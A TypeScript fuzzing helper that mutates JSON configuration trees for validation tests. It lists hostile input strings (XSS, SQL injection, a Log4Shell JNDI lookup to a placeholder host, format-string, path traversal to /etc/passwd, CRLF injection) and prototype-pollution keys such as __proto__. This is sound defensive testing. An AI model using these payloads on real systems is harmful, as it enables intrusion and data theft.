import type { Rng } from '../../../reliability/lib/prng.js';

/**
 * Structural mutations of a JSON-like tree (a config document, a GitLab answer), driven by a
 * seeded Rng. Each returns the mutated copy and the path it touched, so a test can demand that an
 * error names that very path.
 */

export type Path = ReadonlyArray<string | number>;

export interface Node {
  readonly path: Path;
  readonly value: unknown;
}

export interface Mutated {
  readonly value: unknown;
  readonly kind: string;
  /** The node that was changed (for an added key: the object it was added to). */
  readonly path: Path;
}

export function clone<T>(value: T): T {
  return structuredClone(value);
}

/** Every node of the tree, root first; iterative, since a mutated tree may be huge or deep. */
export function nodes(root: unknown): Node[] {
  const out: Node[] = [];
  const stack: Node[] = [{ path: [], value: root }];
  while (stack.length > 0) {
    const node = stack.pop()!;
    out.push(node);
    const { path, value } = node;
    if (Array.isArray(value)) for (let i = value.length - 1; i >= 0; i--) stack.push({ path: [...path, i], value: value[i] });
    else if (isObject(value)) for (const [key, item] of Object.entries(value).reverse()) stack.push({ path: [...path, key], value: item });
  }
  return out;
}

export function isObject(value: unknown): value is Record<string, unknown> {
  return typeof value === 'object' && value !== null && !Array.isArray(value);
}

export type JsonType = 'string' | 'number' | 'boolean' | 'null' | 'array' | 'object';

export function typeOf(value: unknown): JsonType {
  if (value === null) return 'null';
  if (Array.isArray(value)) return 'array';
  return typeof value === 'object' ? 'object' : (typeof value as 'string' | 'number' | 'boolean');
}

/** Replaces the node at `path` (the root when empty) and returns the new root. */
export function setAt(root: unknown, path: Path, value: unknown): unknown {
  if (path.length === 0) return value;
  const copy = clone(root);
  let parent = copy as Record<string | number, unknown>;
  for (const key of path.slice(0, -1)) parent = parent[key] as Record<string | number, unknown>;
  parent[path.at(-1)!] = value;
  return copy;
}

export function deleteAt(root: unknown, path: Path): unknown {
  const copy = clone(root);
  let parent = copy as Record<string | number, unknown>;
  for (const key of path.slice(0, -1)) parent = parent[key] as Record<string | number, unknown>;
  const last = path.at(-1)!;
  if (Array.isArray(parent)) parent.splice(Number(last), 1);
  else delete parent[last];
  return copy;
}

/** Adds `key` to the object at `path` as an own property, `__proto__` included. */
export function addKey(root: unknown, path: Path, key: string, value: unknown): unknown {
  const copy = clone(root);
  let target = copy as Record<string | number, unknown>;
  for (const k of path) target = target[k] as Record<string | number, unknown>;
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });
  return copy;
}

/** A value of another JSON type than `value`'s. */
export function otherType(rng: Rng, value: unknown): unknown {
  const samples: Record<JsonType, readonly unknown[]> = {
    string: ['text', '0', 'true', ''],
    number: [0, -1, 1.5, 123456789, 1e308],
    boolean: [true, false],
    null: [null],
    array: [[], ['a', 1], [{}]],
    object: [{}, { a: 1 }, { instances: [] }],
  };
  const types = (Object.keys(samples) as JsonType[]).filter((t) => t !== typeOf(value));
  return rng.pick(samples[rng.pick(types)]);
}

/** Text that has broken parsers, templates and terminals before. */
export const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\r\n\r\nHTTP/1.1 200 OK\r\n',
  '<script>alert(1)</script>',
  '"; DROP TABLE users; --',
  '${jndi:ldap://x.invalid/a}',
  '%s%s%s%n',
  '../../../../etc/passwd',
  '\u202e\u0645\u0631\u062d\u0628\u0627',
  '💥'.repeat(50),
  '\ud800',
  'gitlab_duo_ready{gitlab="x"} 1\n# HELP',
  'label"value\\with\nnewline',
  '9'.repeat(400),
  '-1',
  'NaN',
  'Infinity',
  '2026-02-30T25:61:61Z',
  'https://user:pass@evil.invalid/',
];

export const UNKNOWN_KEYS: readonly string[] = ['colour', '__proto__', 'constructor', 'prototype', 'toString', 'x'.repeat(300), 'ümlaut', '💥', '123', ' '];
